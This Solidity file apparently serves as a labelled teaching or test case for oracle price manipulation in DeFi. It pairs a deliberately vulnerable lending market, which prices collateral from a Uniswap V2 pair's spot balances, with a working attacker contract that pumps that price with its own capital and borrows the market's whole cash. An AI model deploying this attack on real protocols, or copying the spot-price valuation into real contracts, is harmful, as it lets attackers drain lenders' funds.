// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20, IUniswapV2Pair, V2Math} from "../Interfaces.sol";

// own-capital-price-manipulation: a market that values collateral by a pair's balances, and an attacker who
// moves that pair with money of his own (no loan of any kind) to borrow more than the collateral is worth.

/// Models a borrowing market: lenders supply the debt asset; borrowers post the collateral token and borrow up
/// to 70% of its value. VULNERABLE: the collateral is valued at the ratio of the two tokens' balances in a V2 pair
/// at the moment of the borrow (see BUG); one large trade just before sets that ratio to anything.
contract PairPricedMarket {
    uint256 public constant LTV_BPS = 7000;
    IERC20 public immutable collateral;
    IERC20 public immutable debtAsset;
    address public immutable pair;

    mapping(address => uint256) public supplied;
    mapping(address => uint256) public collateralOf;
    mapping(address => uint256) public debtOf;

    event Supplied(address indexed lender, uint256 amount);
    event Borrowed(address indexed borrower, uint256 collateral, uint256 amount);

    constructor(IERC20 collateral_, IERC20 debtAsset_, address pair_) {
        collateral = collateral_;
        debtAsset = debtAsset_;
        pair = pair_;
    }

    /// Debt-asset units per collateral unit, scaled by 1e18.
    function collateralPrice() public view returns (uint256) {
        return (debtAsset.balanceOf(pair) * 1e18) / collateral.balanceOf(pair); // BUG: a spot ratio
    }

    function supply(uint256 amount) external {
        debtAsset.transferFrom(msg.sender, address(this), amount);
        supplied[msg.sender] += amount;
        emit Supplied(msg.sender, amount);
    }

    /// Post `pledge` more collateral and borrow `amount` against everything posted.
    function borrowAgainst(uint256 pledge, uint256 amount) external {
        collateral.transferFrom(msg.sender, address(this), pledge);
        collateralOf[msg.sender] += pledge;
        debtOf[msg.sender] += amount;
        uint256 value = (collateralOf[msg.sender] * collateralPrice()) / 1e18;
        require(debtOf[msg.sender] * 10000 <= value * LTV_BPS, "PairPricedMarket: undercollateralized");
        debtAsset.transfer(msg.sender, amount);
        emit Borrowed(msg.sender, pledge, amount);
    }
}

/// The attack contract. attack() runs in one transaction on its owner's own money: pull `capital` of the debt
/// asset from the owner, buy collateral with all of it (the pair's price soars), pledge just enough to borrow
/// the market's whole cash, sell the rest of the collateral back, send everything to the owner.
contract CapitalPumpAttacker {
    address public immutable owner;
    PairPricedMarket public immutable market;
    IUniswapV2Pair public immutable pair;
    IERC20 public immutable debtAsset;
    IERC20 public immutable collateral;

    constructor(PairPricedMarket market_) {
        owner = msg.sender;
        market = market_;
        pair = IUniswapV2Pair(market_.pair());
        debtAsset = market_.debtAsset();
        collateral = market_.collateral();
    }

    function attack(uint256 capital) external {
        require(msg.sender == owner, "not owner");
        debtAsset.transferFrom(owner, address(this), capital);
        uint256 bought = V2Math.sell(pair, address(debtAsset), capital, address(this));
        uint256 perUnit = (market.collateralPrice() * market.LTV_BPS()) / 10000; // borrowable per unit, 1e18
        uint256 cash = debtAsset.balanceOf(address(market));
        uint256 pledge = (cash * 1e18) / perUnit + 1;
        require(pledge <= bought, "not enough capital");
        collateral.approve(address(market), pledge);
        market.borrowAgainst(pledge, cash);
        V2Math.sell(pair, address(collateral), bought - pledge, address(this));
        debtAsset.transfer(owner, debtAsset.balanceOf(address(this)));
    }
}
